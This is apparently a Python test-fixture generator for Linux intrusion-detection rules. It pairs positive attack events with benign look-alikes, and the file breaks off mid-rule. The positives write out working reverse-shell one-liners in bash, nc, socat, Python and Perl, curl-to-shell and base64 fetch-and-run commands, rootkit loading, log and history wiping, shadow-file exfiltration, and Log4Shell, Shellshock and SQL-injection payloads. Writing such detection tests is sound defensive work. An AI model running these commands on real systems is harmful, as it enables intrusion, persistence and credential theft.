import sys
sys.path.insert(0, '/tmp/gen')
from lib import *

R = {}


def rule(fn):
    R[fn.__name__] = fn
    return fn


def C():
    return Clock()

# ---------------------------------------------------------------- process


@rule
def exec_from_dev_shm():
    c = C()
    x = ROOTSH.child(4101, '/dev/shm/sysupd', ['/dev/shm/sysupd', '-d'])
    pos = [exec_(c, x)]
    c = C()
    ls = ROOTSH.child(4102, '/usr/bin/ls', ['ls', '-la', '/dev/shm'])
    py = USERSH.child(4103, '/usr/bin/python3.11', ['python3', 'worker.py'], 'python3')
    t = ROOTSH.child(4104, '/tmp/dev/shm/tool', ['/tmp/dev/shm/tool'])
    neg = [exec_(c, ls), file_(c, py, 'creation', '/dev/shm/sem.mp-4103'),
           exec_(c, t)]
    return pos, neg


@rule
def exec_from_tmp():
    c = C()
    x = ROOTSH.child(4201, '/var/tmp/build/payload', ['./payload'])
    pos = [exec_(c, x)]
    c = C()
    dpkg = ROOTSH.child(4202, '/usr/bin/dpkg', ['dpkg', '-i', 'app.deb'])
    inst = dpkg.child(4203, '/tmp/dpkg-postinst-helper', ['/tmp/dpkg-postinst-helper'])
    tr = CRON.child(4204, '/usr/sbin/tmpreaper', ['tmpreaper', '7d', '/tmp'])
    home = USERSH.child(4205, '/home/alice/tmp/tool', ['./tool'])
    neg = [exec_(c, dpkg), exec_(c, inst), exec_(c, tr), exec_(c, home)]
    return pos, neg


@rule
def hidden_program_exec():
    c = C()
    x = ROOTSH.child(4301, '/var/tmp/.X11-unix/.sshd', ['.sshd'])
    pos = [exec_(c, x)]
    c = C()
    a = USERSH.child(4302, '/home/alice/.local/bin/pipx', ['pipx', 'list'])
    b = USERSH.child(4303, '/usr/bin/python3.11', ['python3', '.startup.py'], 'python3')
    neg = [exec_(c, a), exec_(c, b)]
    return pos, neg


@rule
def revshell_bash_dev_tcp():
    c = C()
    sh = PHPFPM.child(4401, '/usr/bin/bash', ['bash', '-c', 'bash -i >& /dev/tcp/203.0.113.50/4444 0>&1'])
    pos = [exec_(c, sh)]
    c = C()
    hc = SYSTEMD.child(4402, '/usr/bin/bash', ['bash', '-c', 'cat < /dev/null > /dev/tcp/db.internal/5432'])
    it = SSHD_S.child(4403, '/usr/bin/bash', ['bash', '-i'])
    py = ROOTSH.child(4404, '/usr/bin/python3.11', ['python3', '-c', 'import os; os.system("echo hi >&2 /dev/tcp/x")'], 'python3')
    neg = [exec_(c, hc), exec_(c, it), exec_(c, py)]
    return pos, neg


@rule
def revshell_netcat_exec():
    c = C()
    nc = PHPFPM.child(4501, '/usr/bin/nc.traditional', ['nc', '203.0.113.50', '4444', '-e', '/bin/bash'], 'nc')
    pos = [exec_(c, nc)]
    c = C()
    a = ROOTSH.child(4502, '/usr/bin/nc.openbsd', ['nc', '-zv', '10.0.0.1', '22'], 'nc')
    b = ROOTSH.child(4503, '/usr/bin/ncat', ['ncat', '--ssl', 'mail.example.com', '465'])
    g = ROOTSH.child(4504, '/usr/bin/grep', ['grep', '-e', 'error', '/var/log/syslog'])
    neg = [exec_(c, a), exec_(c, b), exec_(c, g)]
    return pos, neg


@rule
def revshell_socat_exec():
    c = C()
    s = ROOTSH.child(4601, '/usr/bin/socat', ['socat', 'exec:bash -li,pty,stderr,setsid,sigint,sane', 'tcp:203.0.113.50:4444'])
    pos = [exec_(c, s)]
    c = C()
    a = SYSTEMD.child(4602, '/usr/bin/socat', ['socat', 'TCP-LISTEN:8080,fork', 'TCP:127.0.0.1:80'])
    b = ROOTSH.child(4603, '/usr/bin/socat', ['socat', 'EXEC:/usr/local/bin/agent', 'UNIX-CONNECT:/run/agent.sock'])
    neg = [exec_(c, a), exec_(c, b)]
    return pos, neg


@rule
def revshell_python_socket():
    c = C()
    code = ('import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);'
            's.connect(("203.0.113.50",4444));os.dup2(s.fileno(),0); os.dup2(s.fileno(),1);'
            'os.dup2(s.fileno(),2);subprocess.call(["/bin/sh","-i"])')
    p = PHPFPM.child(4701, '/usr/bin/python3.11', ['python3', '-c', code], 'python3')
    pos = [exec_(c, p)]
    c = C()
    a = USERSH.child(4702, '/usr/bin/python3.11', ['python3', '-c', 'import socket; print(socket.gethostname())'], 'python3')
    b = USERSH.child(4703, '/usr/bin/python3.11', ['python3', '-c', "import socket;s=socket.create_connection(('db',5432));s.close()"], 'python3')
    d = USERSH.child(4704, '/usr/bin/python3.11', ['python3', '-m', 'http.server', '8000'], 'python3')
    neg = [exec_(c, a), exec_(c, b), exec_(c, d)]
    return pos, neg


@rule
def revshell_perl_socket():
    c = C()
    code = ('use Socket;$i="203.0.113.50";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));'
            'if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");'
            'open(STDERR,">&S");exec("/bin/sh -i");};')
    p = NGINX.child(4801, '/usr/bin/perl', ['perl', '-e', code])
    pos = [exec_(c, p)]
    c = C()
    a = USERSH.child(4802, '/usr/bin/perl', ['perl', '-e', 'print "hello\\n"'])
    b = USERSH.child(4803, '/usr/bin/perl', ['perl', '-ne', 'print if /socket\\(/', '/var/log/syslog'])
    d = ROOTSH.child(4804, '/usr/bin/perl', ['perl', '/usr/bin/exiftool', 'photo.jpg'])
    neg = [exec_(c, a), exec_(c, b), exec_(c, d)]
    return pos, neg


@rule
def download_piped_to_shell():
    c = C()
    s = CRON.child(4901, '/usr/bin/dash', ['/bin/sh', '-c', 'curl -fsSL http://203.0.113.50/x.sh | sh'], 'sh')
    pos = [exec_(c, s)]
    c = C()
    a = CRON.child(4902, '/usr/bin/dash', ['/bin/sh', '-c', 'curl -fsSL https://example.com/f.tar.gz | sha256sum'], 'sh')
    b = CRON.child(4903, '/usr/bin/dash', ['/bin/sh', '-c', 'wget -qO- https://example.com/f.tar.gz | tar xz -C /opt'], 'sh')
    d = ROOTSH.child(4904, '/usr/bin/curl', ['curl', '-o', 'install.sh', 'https://example.com/install.sh'])
    neg = [exec_(c, a), exec_(c, b), exec_(c, d)]
    return pos, neg


@rule
def base64_decoded_exec():
    c = C()
    s = CRON.child(5001, '/usr/bin/dash', ['/bin/sh', '-c', 'echo Y3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjUwL3ggfCBzaA== | base64 -d | bash'], 'sh')
    pos = [exec_(c, s)]
    c = C()
    a = ROOTSH.child(5002, '/usr/bin/dash', ['/bin/sh', '-c', 'echo dGVzdA== | base64 -d > /tmp/out.txt'], 'sh')
    b = ROOTSH.child(5003, '/usr/bin/dash', ['/bin/sh', '-c', 'cat cert.b64 | base64 --decode | openssl x509 -noout -text'], 'sh')
    d = ROOTSH.child(5004, '/usr/bin/base64', ['base64', '-d', 'blob.b64'])
    neg = [exec_(c, a), exec_(c, b), exec_(c, d)]
    return pos, neg


@rule
def kernel_module_load():
    c = C()
    i = ROOTSH.child(5101, '/usr/bin/kmod', ['insmod', '/tmp/.rk/diamorphine.ko'], 'insmod')
    pos = [exec_(c, i)]
    c = C()
    r = ROOTSH.child(5102, '/usr/bin/kmod', ['modprobe', '-r', 'floppy'], 'modprobe')
    ml = SYSTEMD.child(5103, '/usr/lib/systemd/systemd-modules-load', ['/lib/systemd/systemd-modules-load'])
    mp = ml.child(5104, '/usr/bin/kmod', ['modprobe', 'br_netfilter'], 'modprobe')
    ls = ROOTSH.child(5105, '/usr/bin/kmod', ['lsmod'], 'lsmod')
    neg = [exec_(c, r), exec_(c, ml), exec_(c, mp), exec_(c, ls)]
    return pos, neg


@rule
def setuid_bit_set():
    c = C()
    x = ROOTSH.child(5201, '/usr/bin/chmod', ['chmod', 'u+s', '/tmp/.bash'])
    pos = [exec_(c, x)]
    c = C()
    a = ROOTSH.child(5202, '/usr/bin/chmod', ['chmod', '755', 'deploy.sh'])
    b = ROOTSH.child(5203, '/usr/bin/chmod', ['chmod', '-R', 'g+w', '/srv/www'])
    d = ROOTSH.child(5204, '/usr/bin/chown', ['chown', 'root:root', '/tmp/.bash'])
    neg = [exec_(c, a), exec_(c, b), exec_(c, d)]
    return pos, neg


@rule
def dangerous_capability_set():
    c = C()
    x = ROOTSH.child(5301, '/usr/sbin/setcap', ['setcap', 'cap_setuid+ep', '/usr/bin/python3.11'])
    pos = [exec_(c, x)]
    c = C()
    a = ROOTSH.child(5302, '/usr/sbin/setcap', ['setcap', 'cap_net_bind_service=+ep', '/usr/local/bin/app'])
    b = ROOTSH.child(5303, '/usr/sbin/setcap', ['setcap', '-r', '/usr/bin/ping'])
    d = ROOTSH.child(5304, '/usr/sbin/getcap', ['getcap', '-r', '/usr/bin'])
    neg = [exec_(c, a), exec_(c, b), exec_(c, d)]
    return pos, neg


@rule
def web_server_spawns_shell():
    c = C()
    s = PHPFPM.child(5401, '/usr/bin/dash', ['sh', '-c', 'id'], 'sh')
    pos = [exec_(c, s)]
    c = C()
    a = NGINX.child(5402, '/usr/bin/logger', ['logger', '-t', 'nginx', 'reload'])
    b = SSHD_S.child(5403, '/usr/bin/bash', ['-bash'], 'bash')
    d = SYSTEMD.child(5404, '/usr/sbin/nginx', ['nginx', '-s', 'reload'])
    neg = [exec_(c, a), exec_(c, b), exec_(c, d)]
    return pos, neg


@rule
def coin_miner_exec():
    c = C()
    m = CRON.child(5501, '/tmp/.x/xmrig', ['xmrig', '-o', 'stratum+tcp://pool.example.net:3333', '-u', '4AdUndXHHZ6cfufTMvppY6JwXNouMBzSkbLYfpAV5Usx'])
    pos = [exec_(c, m)]
    c = C()
    a = ROOTSH.child(5502, '/usr/bin/grep', ['grep', '-r', 'stratum', '/etc'])
    b = USERSH.child(5503, '/usr/bin/python3.11', ['python3', 'mine_sweeper.py'], 'python3')
    neg = [exec_(c, a), exec_(c, b)]
    return pos, neg

# ---------------------------------------------------------------- evasion


@rule
def log_file_deleted():
    c = C()
    rm = ROOTSH.child(5601, '/usr/bin/rm', ['rm', '-f', '/var/log/auth.log'])
    pos = [exec_(c, rm), file_(c, rm, 'deletion', '/var/log/auth.log')]
    c = C()
    lr = CRON.child(5602, '/usr/sbin/logrotate', ['/usr/sbin/logrotate', '/etc/logrotate.conf'])
    rm2 = ROOTSH.child(5603, '/usr/bin/rm', ['rm', '/var/log/auth.log.4.gz'])
    rs = SYSTEMD.child(5604, '/usr/sbin/rsyslogd', ['/usr/sbin/rsyslogd', '-n', '-iNONE'])
    neg = [file_(c, lr, 'rename', '/var/log/syslog', '/var/log/syslog.1'),
           file_(c, rm2, 'deletion', '/var/log/auth.log.4.gz'),
           file_(c, rs, 'creation', '/var/log/auth.log')]
    return pos, neg


@rule
def log_wiped_with_tool():
    c = C()
    s = ROOTSH.child(5701, '/usr/bin/shred', ['shred', '-zu', '/var/log/wtmp'])
    pos = [exec_(c, s)]
    c = C()
    a = USERSH.child(5702, '/usr/bin/shred', ['shred', '-u', '/home/alice/secret.txt'])
    b = ROOTSH.child(5703, '/usr/bin/truncate', ['truncate', '-s', '0', '/tmp/app.log'])
    d = ROOTSH.child(5704, '/usr/bin/cat', ['cat', '/var/log/syslog'])
    neg = [exec_(c, a), exec_(c, b), exec_(c, d)]
    return pos, neg


@rule
def shell_history_file_removed():
    c = C()
    rm = ROOTSH.child(5801, '/usr/bin/rm', ['rm', '-f', '/root/.bash_history'])
    pos = [exec_(c, rm), file_(c, rm, 'deletion', '/root/.bash_history')]
    c = C()
    neg = [file_(c, USERSH, 'creation', '/home/alice/.bash_history'),
           file_(c, USERSH, 'modification', '/home/alice/.bash_history'),
           file_(c, ROOTSH.child(5802, '/usr/bin/rm', ['rm', '/root/.bash_history.bak']),
                 'deletion', '/root/.bash_history.bak')]
    return pos, neg


@rule
def shell_history_disabled():
    c = C()
    s = ROOTSH.child(5901, '/usr/bin/bash', ['bash', '-c', 'history -c && rm -f ~/.bash_history'])
    pos = [exec_(c, s)]
    c = C()
    a = ROOTSH.child(5902, '/usr/bin/bash', ['bash', '-c', 'history | tail -5'])
    b = ROOTSH.child(5903, '/usr/bin/bash', ['bash', '-c', 'export HISTSIZE=10000 HISTFILESIZE=20000'])
    d = ROOTSH.child(5904, '/usr/bin/grep', ['grep', 'unset HISTFILE', '/root/notes.txt'])
    neg = [exec_(c, a), exec_(c, b), exec_(c, d)]
    return pos, neg


@rule
def firewall_flushed():
    c = C()
    x = ROOTSH.child(6001, '/usr/sbin/xtables-nft-multi', ['iptables', '-F'], 'iptables')
    pos = [exec_(c, x)]
    c = C()
    a = ROOTSH.child(6002, '/usr/sbin/xtables-nft-multi', ['iptables', '-L', '-n'], 'iptables')
    b = ROOTSH.child(6003, '/usr/sbin/nft', ['nft', 'list', 'ruleset'])
    d = ROOTSH.child(6004, '/usr/sbin/ufw', ['ufw', 'allow', '22/tcp'])
    e = ROOTSH.child(6005, '/usr/sbin/nft', ['nft', 'flush', 'table', 'inet', 'scratch'])
    neg = [exec_(c, a), exec_(c, b), exec_(c, d), exec_(c, e)]
    return pos, neg


@rule
def audit_disabled():
    c = C()
    x = ROOTSH.child(6101, '/usr/sbin/auditctl', ['auditctl', '-e', '0'])
    pos = [exec_(c, x)]
    c = C()
    a = ROOTSH.child(6102, '/usr/sbin/auditctl', ['auditctl', '-l'])
    b = ROOTSH.child(6103, '/usr/sbin/auditctl', ['auditctl', '-e', '1'])
    d = ROOTSH.child(6104, '/usr/bin/systemctl', ['systemctl', 'restart', 'auditd'])
    e = ROOTSH.child(6105, '/usr/bin/systemctl', ['systemctl', 'stop', 'nginx'])
    neg = [exec_(c, a), exec_(c, b), exec_(c, d), exec_(c, e)]
    return pos, neg


@rule
def timestomp_system_file():
    c = C()
    x = ROOTSH.child(6201, '/usr/bin/touch', ['touch', '-r', '/usr/bin/ls', '/usr/bin/sshd-helper'])
    pos = [exec_(c, x)]
    c = C()
    a = ROOTSH.child(6202, '/usr/bin/touch', ['touch', '/usr/bin/.marker'])
    b = USERSH.child(6203, '/usr/bin/touch', ['touch', '-d', '2 hours ago', '/home/alice/build.stamp'])
    neg = [exec_(c, a), exec_(c, b)]
    return pos, neg

# ---------------------------------------------------------------- creds


@rule
def shadow_file_read():
    c = C()
    cat = ROOTSH.child(6301, '/usr/bin/cat', ['cat', '/etc/shadow'])
    pos = [exec_(c, cat), file_(c, cat, 'open', '/etc/shadow')]
    c = C()
    chk = SSHD_S.child(6302, '/usr/sbin/unix_chkpwd', ['/sbin/unix_chkpwd', 'root', 'nullok'], 'unix_chkpwd')
    cat2 = ROOTSH.child(6303, '/usr/bin/cat', ['cat', '/etc/passwd'])
    cp = ROOTSH.child(6304, '/usr/bin/cp', ['cp', '/etc/shadow.bak', '/root/'])
    neg = [file_(c, chk, 'open', '/etc/shadow'), file_(c, cat2, 'open', '/etc/passwd'),
           file_(c, cp, 'open', '/etc/shadow.bak')]
    return pos, neg


@rule
def ssh_private_key_read():
    c = C()
    py = USERSH.child(6401, '/usr/bin/python3.11', ['python3', '/tmp/.c/collect.py'], 'python3')
    pos = [file_(c, py, 'open', '/home/alice/.ssh/id_ed25519')]
    c = C()
    ssh = USERSH.child(6402, '/usr/bin/ssh', ['ssh', 'git@example.com'])
    neg = [file_(c, ssh, 'open', '/home/alice/.ssh/id_ed25519'),
           file_(c, py, 'open', '/home/alice/.ssh/id_ed25519.pub'),
           file_(c, py, 'open', '/home/alice/.ssh/known_hosts')]
    return pos, neg

# ---------------------------------------------------------------- persistence


@rule
def cron_job_written():
    c = C()
    pos = [file_(c, ROOTSH, 'creation', '/etc/cron.d/sysupdate')]
    c = C()
    dpkg = ROOTSH.child(6501, '/usr/bin/dpkg', ['dpkg', '-i', 'php8.2-common.deb'])
    neg = [file_(c, dpkg, 'creation', '/etc/cron.d/php'),
           file_(c, CRON, 'open', '/etc/crontab'),
           file_(c, ROOTSH, 'creation', '/var/spool/cronjobs-notes.txt')]
    return pos, neg


@rule
def systemd_unit_created():
    c = C()
    pos = [file_(c, ROOTSH, 'creation', '/etc/systemd/system/dbus-update.service')]
    c = C()
    sc = ROOTSH.child(6601, '/usr/bin/systemctl', ['systemctl', 'enable', 'nginx'])
    dpkg = ROOTSH.child(6602, '/usr/bin/dpkg', ['dpkg', '-i', 'nginx.deb'])
    neg = [file_(c, sc, 'creation', '/etc/systemd/system/multi-user.target.wants/nginx.service'),
           file_(c, ROOTSH, 'creation', '/etc/systemd/system/nginx.service.d/override.conf'),
           file_(c, dpkg, 'creation', '/lib/systemd/system/nginx.service')]
    return pos, neg


@rule
def ld_so_preload_written():
    c = C()
    pos = [file_(c, ROOTSH, 'creation', '/etc/ld.so.preload')]
    c = C()
    ls = ROOTSH.child(6701, '/usr/bin/ls', ['ls'])
    dpkg = ROOTSH.child(6702, '/usr/bin/dpkg', ['dpkg', '-i', 'libfoo.deb'])
    ldc = dpkg.child(6703, '/usr/sbin/ldconfig', ['ldconfig'])
    neg = [file_(c, ls, 'open', '/etc/ld.so.preload'),
           file_(c, dpkg, 'creation', '/etc/ld.so.conf.d/libfoo.conf'),
           file_(c, ldc, 'modification', '/etc/ld.so.cache')]
    return pos, neg


@rule
def ssh_authorized_keys_written():
    c = C()
    pos = [file_(c, ROOTSH, 'modification', '/root/.ssh/authorized_keys')]
    c = C()
    ci = SYSTEMD.child(6801, '/usr/bin/python3.11', ['/usr/bin/python3', '/usr/bin/cloud-init', 'init'], 'cloud-init')
    ssh = USERSH.child(6802, '/usr/bin/ssh', ['ssh', 'host2'])
    neg = [file_(c, SSHD_S, 'open', '/root/.ssh/authorized_keys'),
           file_(c, ci, 'creation', '/home/debian/.ssh/authorized_keys'),
           file_(c, ssh, 'creation', '/home/alice/.ssh/known_hosts')]
    return pos, neg


@rule
def rc_script_written():
    c = C()
    pos = [file_(c, ROOTSH, 'creation', '/etc/rc.local')]
    c = C()
    dpkg = ROOTSH.child(6901, '/usr/bin/dpkg', ['dpkg', '-i', 'nginx.deb'])
    gen = SYSTEMD.child(6902, '/usr/lib/systemd/system-generators/systemd-rc-local-generator', ['systemd-rc-local-generator'], 'systemd-rc-loca')
    neg = [file_(c, dpkg, 'creation', '/etc/init.d/nginx'),
           file_(c, gen, 'open', '/etc/rc.local'),
           file_(c, ROOTSH, 'creation', '/etc/rc.local.bak')]
    return pos, neg


@rule
def shell_profile_modified():
    c = C()
    pos = [file_(c, ROOTSH, 'creation', '/etc/profile.d/zz-update.sh')]
    c = C()
    ua = ROOTSH.child(7001, '/usr/sbin/useradd', ['useradd', '-m', 'bob'])
    neg = [file_(c, ua, 'creation', '/home/bob/.bashrc'),
           file_(c, ROOTSH, 'open', '/root/.bashrc'),
           file_(c, ROOTSH, 'creation', '/root/.bash_history')]
    return pos, neg


@rule
def sudoers_modified():
    c = C()
    pos = [file_(c, ROOTSH, 'creation', '/etc/sudoers.d/99-backup')]
    c = C()
    vs = ROOTSH.child(7101, '/usr/sbin/visudo', ['visudo'])
    sudo = USERSH.child(7102, '/usr/bin/sudo', ['sudo', '-l'], uid=0)
    dpkg = ROOTSH.child(7103, '/usr/bin/dpkg', ['dpkg', '-i', 'sudo.deb'])
    neg = [file_(c, vs, 'rename', '/etc/sudoers.tmp', '/etc/sudoers'),
           file_(c, sudo, 'open', '/etc/sudoers'),
           file_(c, dpkg, 'creation', '/etc/sudoers.d/README')]
    return pos, neg


@rule
def account_database_written():
    c = C()
    pos = [file_(c, ROOTSH, 'modification', '/etc/passwd')]
    c = C()
    ua = ROOTSH.child(7201, '/usr/sbin/useradd', ['useradd', '-m', 'bob'])
    idp = ROOTSH.child(7202, '/usr/bin/id', ['id', 'bob'])
    neg = [file_(c, ua, 'rename', '/etc/passwd+', '/etc/passwd'),
           file_(c, idp, 'open', '/etc/passwd'),
           file_(c, ROOTSH, 'creation', '/etc/passwd.bak')]
    return pos, neg

# ---------------------------------------------------------------- network


HTTP_TAIL = '\r\nHost: shop.example.com\r\nAccept: */*\r\n\r\n'


@rule
def packet_log4shell_jndi():
    c = C()
    pos = [packet(c, '198.51.100.23', 51514, '10.0.0.5', 8080,
                  'GET / HTTP/1.1\r\nHost: 10.0.0.5:8080\r\nUser-Agent: ${jndi:ldap://203.0.113.50:1389/Exploit}\r\n\r\n')]
    c = C()
    neg = [packet(c, '198.51.100.24', 51515, '10.0.0.5', 8080, 'GET /search?q=jndi+ldap+tutorial HTTP/1.1' + HTTP_TAIL),
           packet(c, '198.51.100.25', 51516, '10.0.0.5', 8080, 'GET /?v=${java:version} HTTP/1.1' + HTTP_TAIL)]
    return pos, neg


@rule
def packet_shellshock():
    c = C()
    pos = [packet(c, '198.51.100.23', 51600, '10.0.0.5', 80,
                  "GET /cgi-bin/status HTTP/1.1\r\nUser-Agent: () { :; }; /bin/bash -c 'id'\r\nHost: 10.0.0.5\r\n\r\n")]
    c = C()
    neg = [packet(c, '93.184.216.34', 443, '10.0.0.5', 51601,
                  'HTTP/1.1 200 OK\r\nContent-Type: application/javascript\r\n\r\n$(function () {\n  init();\n});'),
           packet(c, '198.51.100.26', 51602, '10.0.0.5', 80, 'GET /docs/() HTTP/1.1' + HTTP_TAIL)]
    return pos, neg


@rule
def packet_http_shell_command():
    c = C()
    pos = [packet(c, '198.51.100.23', 51700, '10.0.0.5', 80,
                  'GET /cgi-bin/admin.cgi?cmd=/bin/sh%20-c%20id HTTP/1.1' + HTTP_TAIL)]
    c = C()
    neg = [packet(c, '198.51.100.27', 51701, '10.0.0.5', 80,
                  'POST /api/v1/users HTTP/1.1\r\nContent-Type: application/json\r\n\r\n{"shell":"/bin/sh"}'),
           packet(c, '10.0.0.9', 51702, '10.0.0.5', 514,
                  '<78>Jan  2 03:05:01 web-02 CRON[812]: (root) CMD (/bin/sh -c run-parts /etc/cron.hourly)',
                  transport='udp')]
    return pos, neg


@rule
def packet_sql_injection_union():
    c = C()
    pos = [packet(c, '198.51.100.23', 51800, '10.0.0.5', 80,
                  'GET /products.php?id=1%20UNION%20SELECT%20username,password%20FROM%20users-- HTTP/1.1' + HTTP_TAIL)]
    c = C()
    neg = [packet(c, '10.0.0.7', 51801, '10.0.0.5', 3306,
                  '\x2d\x00\x00\x00\x03SELECT id FROM a UNION SELECT id FROM b'),
           packet(c, '198.51.100.28', 51802, '10.0.0.5', 80, 'GET /blog/union-select-explained HTTP/1.1' + HTTP_TAIL)]
    return pos, neg


@rule
def revshell_port_connect():
    c = C()
    py = PHPFPM.child(7301, '/usr/bin/python3.11', ['python3', '/tmp/r.py'], 'python3')
    pos = [connect(c, py, '203.0.113.50', 4444)]
    c = C()
    neg = [connect(c, py, '127.0.0.1', 4444, sip='127.0.0.1'),
           connect(c, py, '203.0.113.50', 443),
           connect(c, py, '::1', 1337, sip='::1')]
    return pos, neg


@rule
def shell_network_connect():
    c = C()
    b = PHPFPM.child(7401, '/usr/bin/bash', ['bash', '-c', 'bash -i >& /dev/tcp/203.0.113.50/443 0>&1'])
    pos = [connect(c, b, '203.0.113.50', 443)]
    c = C()
    curl = ROOTSH.child(7402, '/usr/bin/curl', ['curl', 'https://example.com'])
    hc = SYSTEMD.child(7403, '/usr/bin/bash', ['bash', '-c', 'echo > /dev/tcp/127.0.0.1/8080'])
    neg = [connect(c, curl, '93.184.216.34', 443),
           connect(c, hc, '127.0.0.1', 8080, sip='127.0.0.1'),
           connect(c, ROOTSH, '10.0.0.5', 22, sip='198.51.100.9', sport=50123, action='accept')]
    return pos, neg


@rule
def dev_shm_process_connect():
    c = C()
    x = ROOTSH.child(7501, '/dev/shm/sysupd', ['/dev/shm/sysupd'])
    pos = [connect(c, x, '198.51.100.23', 443)]
    c = C()
    curl = ROOTSH.child(7502, '/usr/bin/curl', ['curl', 'https://example.com/dev/shm/'])
    neg = [connect(c, curl, '93.184.216.34', 443), exec_(c, x)]
    return pos, neg

# ---------------------------------------------------------------- sequences


@rule
def tmp_download_then_exec():
    c = C()
    w = ROOTSH.child(7601, '/usr/bin/wget', ['wget', '-q', '-O', '/tmp/kdevtmpfsi', 'http://203.0.113.50/kdevtmpfsi'])
    ch = ROOTSH.child(7602, '/usr/bin/chmod', ['chmod', '+x', '/tmp/kdevtmpfsi'])
    x = ROOTSH.child(7603, '/tmp/kdevtmpfsi', ['/tmp/kdevtmpfsi'])
    pos = [exec_(c, w), file_(c, w, 'creation', '/tmp/kdevtmpfsi', ms=900),
           exec_(c, ch, ms=2100), exec_(c, x, ms=1200)]
    c = C()
    w2 = ROOTSH.child(7611, '/usr/bin/wget', ['wget', '-O', '/tmp/a.sh', 'http://203.0.113.50/a.sh'])
    b = ROOTSH.child(7612, '/tmp/b', ['/tmp/b'])
    cu = ROOTSH.child(7613, '/usr/bin/curl', ['curl', '-o', '/tmp/c', 'http://203.0.113.50/c'])
    cx = ROOTSH.child(7614, '/tmp/c', ['/tmp/c'])
    cc = ROOTSH.child(7615, '/usr/bin/x86_64-linux-gnu-gcc-12', ['cc', '-o', '/tmp/d', 'd.c'], 'cc')
    dx = ROOTSH.child(7616, '/tmp/d', ['/tmp/d'])
    neg = [file_(c, w2, 'creation', '/tmp/a.sh'), exec_(c, b),
           file_(c, cu, 'creation', '/tmp/c'), exec_(c, cx, ms=6 * 60 * 1000),
           file_(c, cc, 'creation', '/tmp/d'), exec_(c, dx)]
    return pos, neg


@rule
def shadow_read_then_exfil():
    c = C()
    p = CRON.child(7701, '/usr/bin/python3.11', ['python3', '/tmp/.c/x.py'], 'python3')
    pos = [exec_(c, p), file_(c, p, 'open', '/etc/shadow'),
           connect(c, p, '203.0.113.50', 443, ms=800)]
    c = C()
    p1 = ROOTSH.child(7702, '/usr/bin/python3.11', ['python3', 'audit.py'], 'python3')
    p2 = ROOTSH.child(7703, '/usr/bin/python3.11', ['python3', 'sync.py'], 'python3')
    p3 = ROOTSH.child(7704, '/usr/bin/python3.11', ['python3', 'slow.py'], 'python3')
    neg = [file_(c, p1, 'open', '/etc/shadow'), connect(c, p1, '10.0.0.8', 443),
           connect(c, p2, '203.0.113.50', 443), file_(c, p2, 'open', '/etc/shadow'),
           file_(c, p3, 'open', '/etc/shadow'), connect(c, p3, '203.0.113.50', 443, ms=3 * 60 * 1000)]
    return pos, neg


@rule
def kernel_module_dropped_then_loaded():
    c = C()
    sh = ROOTSH.child(7801, '/usr/bin/bash', ['bash', './install.sh'])
    cu = sh.child(7802, '/usr/bin/curl', ['curl', '-so', '/tmp/.rk/rootkit.ko', 'http://203.0.113.50/rk.ko'])
    ins = sh.child(7803, '/usr/bin/kmod', ['insmod', '/tmp/.rk/rootkit.ko'], 'insmod')
    pos = [exec_(c, sh), exec_(c, cu), file_(c, cu, 'creation', '/tmp/.rk/rootkit.ko'),
           exec_(c, ins, ms=1500)]
    c = C()
    dk = ROOTSH.child(7811, '/usr/sbin/dkms', ['dkms', 'install', 'zfs/2.1.11'])
    cp = dk.child(7812, '/usr/bin/cp', ['cp', 'zfs.ko', '/var/lib/dkms/zfs/2.1.11/6.1.0-18-amd64/x86_64/module/zfs.ko'])
    mp = dk.child(7813, '/usr/bin/kmod', ['modprobe', 'zfs'], 'modprobe')
    s2 = ROOTSH.child(7814, '/usr/bin/bash', ['bash', 'build.sh'])
    cc = s2.child(7815, '/usr/bin/ld', ['ld', '-r', '-o', '/home/alice/drv/hello.ko', 'hello.o'])
    s3 = ROOTSH.child(7816, '/usr/bin/bash', ['bash'])
    ins2 = s3.child(7817, '/usr/bin/kmod', ['insmod', '/home/alice/drv/hello.ko'], 'insmod')
    neg = [file_(c, cp, 'creation', '/var/lib/dkms/zfs/2.1.11/6.1.0-18-amd64/x86_64/module/zfs.ko'),
           exec_(c, mp), file_(c, cc, 'creation', '/home/alice/drv/hello.ko'), exec_(c, ins2)]
    return pos, neg


@rule
def new_user_then_ssh_key():
    c = C()
    ua = ROOTSH.child(7901, '/usr/sbin/useradd', ['useradd', '-m', '-s', '/bin/bash', 'backup'])
    mk = ROOTSH.child(7902, '/usr/bin/mkdir', ['mkdir', '-p', '/home/backup/.ssh'])
    pos = [exec_(c, ua), exec_(c, mk, ms=400),
           file_(c, ROOTSH, 'creation', '/home/backup/.ssh/authorized_keys', ms=300)]
    c = C()
    ua2 = ROOTSH.child(7911, '/usr/sbin/useradd', ['useradd', '-m', 'carol'])
    other = SSHD_U.child(7912, '/usr/bin/bash', ['-bash'], 'bash', uid=1000)
    neg = [file_(c, ROOTSH, 'modification', '/root/.ssh/authorized_keys'),
           exec_(c, ua2), file_(c, other, 'modification', '/home/alice/.ssh/authorized_keys')]
    return pos, neg


@rule
def interpreter_connect_then_shell():
    c = C()
    py = PHPFPM.child(8001, '/usr/bin/python3.11', ['python3', '-c', 'import pty,socket;s=socket.socket();s.connect(("203.0.113.50",4444));[__import__("os").dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("sh")'], 'python3')
    sh = py.child(8002, '/usr/bin/dash', ['sh'], 'sh')
    pos = [exec_(c, py), connect(c, py, '203.0.113.50', 4444), exec_(c, sh, ms=20)]
    c = C()
    p1 = ROOTSH.child(8011, '/usr/bin/python3.11', ['python3', 'migrate.py'], 'python3')
    s1 = p1.child(8012, '/usr/bin/dash', ['sh', '-c', 'pg_dump app'], 'sh')
    p2 = ROOTSH.child(8013, '/usr/bin/python3.11', ['pip', 'install', 'requests'], 'pip')
    g = p2.child(8014, '/usr/bin/git', ['git', 'clone', 'https://example.com/r.git'])
    p3 = ROOTSH.child(8015, '/usr/bin/python3.11', ['python3', 'fetch.py'], 'python3')
    neg = [connect(c, p1, '127.0.0.1', 5432, sip='127.0.0.1'), exec_(c, s1),
           connect(c, p2, '151.101.0.223', 443), exec_(c, g),
           connect(c, p3, '151.101.0.223', 443), exit_(c, p3)]
    return pos, neg


@rule
def web_shell_then_connect():
    c = C()
    sh = PHPFPM.child(8101, '/usr/bin/dash', ['sh', '-c', 'bash -i >& /dev/tcp/203.0.113.50/4444 0>&1'], 'sh')
